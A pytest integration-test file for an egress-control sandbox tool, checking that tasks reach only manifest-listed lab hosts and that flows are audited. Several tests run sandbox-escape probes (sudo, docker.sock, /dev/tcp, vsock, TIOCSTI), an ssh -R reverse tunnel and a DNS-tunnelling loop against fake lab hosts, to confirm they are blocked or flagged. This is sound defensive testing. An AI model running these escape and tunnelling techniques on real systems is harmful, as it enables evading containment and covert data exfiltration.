"""`egress run` in the lab: the lab's task host plays the host (its uplink leads to the fake
internet), so the run's namespace, forwarding and NAT live inside the lab, never in the root
namespace. Real nftables, conntrack, dnsmasq upstream, nginx, curl and dig."""

import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.lab.lab import LINK_NET

EGRESS = str(Path(sys.executable).parent / "egress")

PURPOSE = '''version = 1
purpose = "Install dependencies from the lab's index"
task = "lab-run"

[[allow]]
host = "pypi.lab"

[[allow]]
host = "pypi6.lab"
'''

CURL = "curl -sk --max-time 5 -o /dev/null -w '%{http_code} %{time_total}\\n'"


def servers(lab):
    lab.start_dns({"pypi.lab": "203.0.113.10", "pypi6.lab": "2001:db8::10",
                   "evil.lab": "198.51.100.66", "other.lab": "203.0.113.20"})
    lab.start_https("pypi.lab", "203.0.113.10")
    lab.start_https("pypi6.lab", "2001:db8::10")
    lab.start_https("mirror.lab", "203.0.113.20")
    lab.start_https("mirror6.lab", "2001:db8::20")


def egress_run(lab, script: str, mode: str = "enforce", timeout: float = 90):
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    return lab.host(EGRESS, "run", "--task", "lab-run", "--purpose", purpose, "--mode", mode,
                    "--db", lab.dir / "egress.db", "--", "sh", "-c", script,
                    timeout=timeout, check=False)


def stored(lab) -> list[dict]:
    out = subprocess.run([EGRESS, "audit", "--json", "--db", str(lab.dir / "egress.db")],
                         capture_output=True, text=True)
    return [json.loads(line) for line in out.stdout.splitlines() if line.strip()]


def runs_left(lab) -> list[str]:
    """Runs whose host is this lab's task host and that left a namespace or a state file
    (other labs, of concurrent test runs, are not ours to count)."""
    from egress.enforce.tasknet import all_runs
    here = int(lab.host("stat", "-L", "-c", "%i", "/proc/self/ns/net").stdout)
    return [r.netns for r in all_runs() if r.host_netns == here]


def outputs(text: str) -> list[tuple[str, float]]:
    return [(w[0], float(w[1])) for w in (line.split() for line in text.splitlines())
            if len(w) == 2 and w[0].isdigit()]


def flows_to(records, dst):
    return [r for r in records if r.get("kind") == "flow" and r["dst"] == dst]


def test_enforce_passes_the_purpose_and_rejects_the_rest_fast(lab):
    servers(lab)
    done = egress_run(lab, f"{CURL} https://pypi.lab/; {CURL} https://203.0.113.20/; "
                           "getent hosts evil.lab || echo refused")
    assert done.returncode == 0, done.stderr
    (allowed, bare) = outputs(done.stdout)
    assert allowed[0] == "200"
    assert bare[0] == "000" and bare[1] < 1.0          # rejected at once, not timed out
    assert "refused" in done.stdout
    # the refused name never left: the upstream server never saw it
    upstream_log = (lab.dir / "dnsmasq.log").read_text()
    assert "pypi.lab" in upstream_log and "evil.lab" not in upstream_log
    records = stored(lab)
    (index,) = flows_to(records, "203.0.113.10")
    assert index["verdict"] == "allow" and index["tls"]["sni"] == "pypi.lab"
    assert index["task"] == "lab-run" and index["observed"] == "first-packets"
    (direct,) = flows_to(records, "203.0.113.20")
    assert direct["verdict"] == "block"
    assert "undeclared-destination" in {f["id"] for f in direct["findings"]}
    refused = [r for r in records if r.get("event") == "dns-refused"]
    assert refused and refused[0]["findings"][0]["evidence"]["name"] == "evil.lab"


def test_dns_to_another_resolver_is_blocked_over_udp_and_tcp(lab):
    servers(lab)
    done = egress_run(lab, f"dig +time=2 +tries=1 @{LINK_NET} other.lab; echo udp=$?; "
                           f"dig +tcp +time=2 +tries=1 @{LINK_NET} other.lab; echo tcp=$?; "
                           "dig +short pypi.lab")
    assert "udp=9" in done.stdout and "tcp=9" in done.stdout, done.stdout
    assert "203.0.113.10" in done.stdout                 # its own resolver answers
    assert "other.lab" not in (lab.dir / "dnsmasq.log").read_text()


def test_ipv6_is_enforced_like_ipv4(lab):
    servers(lab)
    done = egress_run(lab, f"{CURL} -6 https://pypi6.lab/; {CURL} -6 'https://[2001:db8::20]/'")
    (allowed, bare) = outputs(done.stdout)
    assert allowed[0] == "200", done.stdout + done.stderr
    assert bare[0] == "000" and bare[1] < 1.0
    assert flows_to(stored(lab), "2001:db8::20")[0]["verdict"] == "block"


def test_audit_mode_passes_and_flags(lab):
    servers(lab)
    done = egress_run(lab, f"{CURL} https://pypi.lab/; {CURL} https://203.0.113.20/",
                      mode="audit")
    assert [code for code, _ in outputs(done.stdout)] == ["200", "200"]
    (direct,) = flows_to(stored(lab), "203.0.113.20")
    assert direct["verdict"] == "flag" and direct["mode"] == "audit"


@pytest.fixture
def docker_sock():
    """A stand-in docker.sock in the host's mount namespace (Docker is absent here)."""
    path = Path("/run/docker.sock")
    if path.exists():
        pytest.skip("a real /run/docker.sock exists; not replacing it")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    os.chmod(path, 0o666)
    server.listen()
    yield path
    server.close()
    path.unlink()


ESCAPES = r'''
H=$(awk '/nameserver/ {print $2; exit}' /etc/resolv.conf)
sudo -n true 2>/dev/null && echo ESCAPED sudo
systemd-run --user true 2>/dev/null && echo ESCAPED systemd-run
python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock')" \
    2>/dev/null && echo ESCAPED docker.sock
timeout 3 bash -c "echo > /dev/tcp/$H/2222" 2>/dev/null && echo ESCAPED host-ssh
kill -0 __HOSTPID__ 2>/dev/null && echo ESCAPED sees-host-process
test -e /proc/__HOSTPID__ && echo ESCAPED proc
python3 -c "import socket; socket.socket(40, socket.SOCK_STREAM)" 2>/dev/null \
    && echo ESCAPED vsock
ls /run/netns 2>/dev/null | grep -q . && echo ESCAPED netns
python3 -c "import os; print('fds', sorted(os.listdir('/proc/self/fd')))"
id -u
echo checked
'''


def test_escapes_fail_inside_the_task(lab, docker_sock):
    servers(lab)
    # a listener on the host (the lab's task host) and a process of the task's own uid there
    listener = lab.spawn("host", sys.executable, "-c",
                         "import socket,time; s=socket.socket(); s.bind(('0.0.0.0', 2222)); "
                         "s.listen(); time.sleep(60)", log="listener.log")
    same_uid = subprocess.Popen(["setpriv", "--reuid", "egress-task", "--regid", "egress-task",
                                 "--clear-groups", "sleep", "60"], start_new_session=True)
    try:
        time.sleep(0.3)
        done = egress_run(lab, ESCAPES.replace("__HOSTPID__", str(same_uid.pid)))
    finally:
        os.killpg(same_uid.pid, signal.SIGKILL)
        same_uid.wait()
        lab.stop(listener)
    assert "checked" in done.stdout, done.stdout + done.stderr
    assert "ESCAPED" not in done.stdout, done.stdout
    assert "fds ['0', '1', '2', '3']" in done.stdout     # stdio, and listdir's own
    assert int(done.stdout.split("fds")[1].splitlines()[1]) not in (0, os.getuid())


def test_a_killed_auditor_leaves_the_task_no_egress(lab):
    servers(lab)
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    # one lookup puts the index's address in the task's set (for 30 s, the TTL floor)
    loop = ("getent hosts pypi.lab; for i in $(seq 1 40); do "
            f"{CURL.replace('max-time 5', 'max-time 1')} "
            "--resolve pypi.lab:443:203.0.113.10 https://pypi.lab/; sleep 0.5; done")
    run = lab.spawn("host", EGRESS, "run", "--task", "lab-run", "--purpose", purpose,
                    "--mode", "enforce", "--no-store", "--", "sh", "-c", loop, log="run.log")
    lab.wait_log("run.log", "200 ")
    run.send_signal(signal.SIGKILL)       # `ip netns exec` became egress: this is the auditor
    run.wait()
    killed = time.monotonic()
    time.sleep(5 + 3)                     # the switch's timeout, and a margin
    log = (lab.dir / "run.log").read_text()
    before = len(outputs(log))
    time.sleep(4)                         # a dropped SYN: each try takes its 1 s timeout
    after = outputs((lab.dir / "run.log").read_text())[before:]
    assert after and all(code == "000" for code, _ in after), (after, time.monotonic() - killed)
    cleaned = lab.host(EGRESS, "cleanup")
    assert "lab-run" in cleaned.stdout and "processes stopped" in cleaned.stdout
    # the auditor's forked helpers (the gate, the store writer) died with it
    left = subprocess.run(["pgrep", "-f", f"egress run .*{purpose}"], capture_output=True,
                          text=True).stdout.split()
    assert left == [], left
    assert runs_left(lab) == []
    assert lab.host(EGRESS, "cleanup").stdout.startswith("nothing to clean")


def test_signals_pass_through_and_the_exit_status_comes_back(lab):
    servers(lab)
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    script = "trap 'echo got TERM; exit 3' TERM; echo ready; sleep 30 & wait"
    run = lab.spawn("host", EGRESS, "run", "--task", "lab-run", "--purpose", purpose,
                    "--no-store", "--", "bash", "-c", script, log="signal.log")
    lab.wait_log("signal.log", "ready")
    # cleanup never touches a live run
    assert lab.host(EGRESS, "cleanup").stdout.startswith("nothing to clean")
    assert "ready" in (lab.dir / "signal.log").read_text() and run.poll() is None
    run.send_signal(signal.SIGTERM)       # to the auditor, which passes it on
    assert run.wait(timeout=20) == 3
    assert "got TERM" in (lab.dir / "signal.log").read_text()


def test_fail_on_violation_exits_10(lab):
    servers(lab)
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    base = [EGRESS, "run", "--task", "lab-run", "--purpose", purpose, "--no-store"]
    clean = lab.host(*base, "--fail-on-violation", "--", "sh", "-c", f"{CURL} https://pypi.lab/",
                     check=False)
    assert clean.returncode == 0, clean.stderr
    found = lab.host(*base, "--fail-on-violation", "--", "sh", "-c",
                     f"{CURL} https://203.0.113.20/", check=False)
    assert found.returncode == 10, found.stderr
    plain = lab.host(*base, "--", "sh", "-c", f"{CURL} https://203.0.113.20/; exit 4",
                     check=False)
    assert plain.returncode == 4


def test_a_manifest_the_task_can_write_is_refused(lab):
    purpose = lab.dir / "open.toml"
    purpose.write_text(PURPOSE)
    os.chmod(purpose, 0o666)
    done = lab.host(EGRESS, "run", "--task", "lab-run", "--purpose", purpose, "--no-store",
                    "--", "true", check=False)
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1 and "can write" in done.stderr


def test_two_runs_at_once_get_their_own_networks_and_rules(lab):
    servers(lab)
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    script = ("ip -4 -o addr show eth0; sleep 2; "
              f"{CURL} https://pypi.lab/; {CURL} https://203.0.113.20/; true")
    runs = [lab.spawn("host", EGRESS, "run", "--task", f"lab-run-{i}", "--purpose", purpose,
                      "--mode", "enforce", "--no-store", "--", "sh", "-c", script,
                      log=f"run-{i}.log") for i in (1, 2)]
    for i in (1, 2):
        lab.wait_log(f"run-{i}.log", " inet ")
    made = runs_left(lab)                             # the two runs' namespaces, while live
    assert len(made) == 2
    assert [r.wait(timeout=60) for r in runs] == [0, 0], [(lab.dir / f"run-{i}.log").read_text() for i in (1, 2)]
    logs = [(lab.dir / f"run-{i}.log").read_text() for i in (1, 2)]
    subnets = {line.split()[3] for log in logs for line in log.splitlines() if " inet " in line}
    assert len(subnets) == 2, logs                    # distinct addresses from the pool
    for log in logs:
        assert [code for code, _ in outputs(log)] == ["200", "000"], log
    assert runs_left(lab) == []
    assert lab.host("nft", "list", "table", "inet", "egress_nat", check=False).returncode != 0
    assert not [n for n in made if Path(f"/run/egress/runs/{n}.resolv.conf").exists()]


def test_a_bulk_download_is_counted_by_conntrack_not_by_the_packets_logged(lab):
    www = lab.dir / "www"
    www.mkdir()
    (www / "big.whl").write_bytes(os.urandom(20 * 1024 * 1024))
    lab.start_dns({"pypi.lab": "203.0.113.10"})
    lab.start_https("pypi.lab", "203.0.113.10", root=www)
    done = egress_run(lab, f"{CURL} https://pypi.lab/big.whl")
    assert outputs(done.stdout)[0][0] == "200", done.stdout + done.stderr
    (flow,) = flows_to(stored(lab), "203.0.113.10")
    assert flow["bytes_in"] >= 20 * 1024 * 1024 and flow["packets_in"] > 64
    assert flow["end"] > flow["start"] and flow["verdict"] == "allow"


def test_each_flow_carries_its_process_and_ssh_minus_r_is_found_by_it(lab):
    lab.start_dns({"relay.lab": "198.51.100.7"})
    key = lab.start_sshd("198.51.100.7", 22)
    os.chmod(key, 0o644)                   # the task's user must read the key
    os.chmod(lab.dir, 0o755)
    purpose = lab.dir / "ssh.toml"
    purpose.write_text('version = 1\npurpose = "Deploy to the relay"\ntask = "lab-run"\n'
                       '[[allow]]\nhost = "relay.lab"\nports = [22]\nprotocol = "ssh"\n')
    ssh = ("ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
           f"-o BatchMode=yes -i {key} -N -R 9000:127.0.0.1:8080 root@relay.lab")
    done = lab.host(EGRESS, "run", "--task", "lab-run", "--purpose", purpose, "--db",
                    lab.dir / "egress.db", "--", "sh", "-c", f"timeout 3 {ssh}; true",
                    timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    (flow,) = flows_to(stored(lab), "198.51.100.7")
    assert flow["process"]["exe"] == "/usr/bin/ssh"
    assert "-R 9000:127.0.0.1:8080" in flow["process"]["cmdline"]
    assert flow["process"]["uid"] != 0
    (found,) = [f for f in flow["findings"] if f["id"] == "reverse-ssh-tunnel"]
    assert found["evidence"]["source"] == "process"
    assert found["evidence"]["cmdline_flag"] == "-R 9000:127.0.0.1:8080"


def test_the_task_dns_is_recorded_and_a_tunnel_through_an_allowed_zone_found(lab):
    lab.start_dns({"pypi.lab": "203.0.113.10"})
    purpose = lab.dir / "zone.toml"
    purpose.write_text('version = 1\npurpose = "x"\ntask = "lab-run"\n'
                       '[[allow]]\nhost = "*.tunnel.lab"\n')
    script = ("for i in $(seq 1 40); do "
              "l=$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z); "
              "dig +short +tries=1 +time=1 TXT $l.t.tunnel.lab >/dev/null; done")
    done = lab.host(EGRESS, "run", "--task", "lab-run", "--purpose", purpose, "--db",
                    lab.dir / "egress.db", "--", "sh", "-c", script, timeout=90, check=False)
    assert done.returncode == 0, done.stderr
    records = stored(lab)
    dns = [r for r in records if r.get("kind") == "flow" and r.get("app") == "dns"]
    # every lookup is on the record (two that share a source port by chance, within
    # conntrack's UDP timeout, are one flow, as conntrack has them)
    asked = {q["name"] for r in dns for q in (r["dns"] or {}).get("queries", [])
             if q["name"].endswith(".t.tunnel.lab")}
    assert len(asked) >= 40 and all(r["verdict"] == "allow" for r in dns)
    assert all(r["rule"].startswith("egress: the task's own resolver") for r in dns)
    (tunnel,) = [r for r in records if r.get("event") == "dns-tunnel"]
    assert tunnel["findings"][0]["evidence"]["domain"] == "tunnel.lab"


def test_a_package_the_task_left_in_the_workspace_is_never_imported_as_root(lab):
    lab.start_dns({"pypi.lab": "203.0.113.10"})
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    workspace = lab.dir / "workspace"
    (workspace / "egress" / "enforce").mkdir(parents=True)
    marker = lab.dir / "imported-as-root"
    (workspace / "egress" / "__init__.py").write_text(f"open({str(marker)!r}, 'w')\n")
    (workspace / "egress" / "enforce" / "__init__.py").write_text("")
    done = lab.host("sh", "-c", f"cd {workspace} && {EGRESS} run --task lab-run --purpose "
                                f"{purpose} --no-store -- echo the-command-ran", check=False)
    assert "the-command-ran" in done.stdout, done.stderr
    assert not marker.exists()


def test_the_task_cannot_open_vsock_by_io_uring_nor_type_into_the_terminal(lab):
    lab.start_dns({"pypi.lab": "203.0.113.10"})
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    probe = """import ctypes, fcntl, socket
libc = ctypes.CDLL(None, use_errno=True)
print("io_uring_setup", libc.syscall(425, 4, ctypes.create_string_buffer(120)),
      ctypes.get_errno())
for fam in (40, 17):
    try:
        socket.socket(fam, socket.SOCK_STREAM)
        print("family", fam, "OPEN")
    except OSError as e:
        print("family", fam, e.errno)
try:
    fcntl.ioctl(0, 0x5412, b"x")
    print("TIOCSTI OPEN")
except OSError as e:
    print("TIOCSTI", e.errno)
"""
    done = egress_run(lab, f"python3 - <<'PROBE'\n{probe}PROBE\n")
    assert "io_uring_setup -1 1" in done.stdout, done.stdout + done.stderr
    assert "family 40 97" in done.stdout and "family 17 97" in done.stdout
    assert "TIOCSTI 1" in done.stdout or "TIOCSTI 25" in done.stdout   # EPERM; ENOTTY if no tty


def test_nobody_outside_can_open_a_connection_to_the_task(lab):
    """A server in the task, reached from the uplink's side (a route to the task subnet via
    the host): its answers must not leave, or they would be egress nobody judged."""
    lab.start_dns({"pypi.lab": "203.0.113.10"})
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    run = lab.spawn("host", EGRESS, "run", "--task", "lab-run", "--purpose", purpose,
                    "--no-store", "--", "sh", "-c",
                    "python3 -m http.server 8080 --bind 0.0.0.0 & sleep 6; kill $!",
                    log="server.log")
    time.sleep(2)
    lab.net("ip", "route", "add", "10.213.0.0/16", "via", "10.99.0.2")
    got = lab.net("curl", "-s", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}",
                  "http://10.213.0.2:8080/", check=False)
    assert got.stdout == "000"
    assert run.wait(timeout=30) == 0


def test_the_task_sees_no_host_socket_and_a_tmp_of_its_own(lab):
    """A unix socket of the host in /run or /tmp (a relay to the network, a daemon) is out
    of the task's sight; its /tmp is its own and empty."""
    lab.start_dns({"pypi.lab": "203.0.113.10"})
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    relays = []
    for folder in ("/run", "/tmp"):
        path = Path(folder) / f"egress-lab-relay-{lab.id}.sock"
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        os.chmod(path, 0o666)
        server.listen()
        relays.append((server, path))
    try:
        done = egress_run(lab, f"ls -A /tmp; ls /run/egress-lab-relay-{lab.id}.sock "
                               f"/tmp/egress-lab-relay-{lab.id}.sock 2>&1; cat /etc/resolv.conf")
    finally:
        for server, path in relays:
            server.close()
            path.unlink()
    listing = done.stdout.splitlines()
    assert listing[0] == "home"                                  # its own, made for it
    assert done.stdout.count("No such file or directory") == 2, done.stdout
    assert "nameserver 10.213." in done.stdout


def test_a_manifest_an_acl_lets_the_task_write_is_refused(lab):
    from egress.enforce.sandbox import task_user
    task_user()                                 # egress-task, made on first use
    purpose = lab.dir / "acl.toml"
    purpose.write_text(PURPOSE)
    os.chmod(purpose, 0o640)
    lab.host("setfacl", "-m", "u:egress-task:rw", purpose)
    done = lab.host(EGRESS, "run", "--task", "lab-run", "--purpose", purpose, "--no-store",
                    "--", "true", check=False)
    assert done.returncode == 1 and "POSIX ACL" in done.stderr, done.stderr
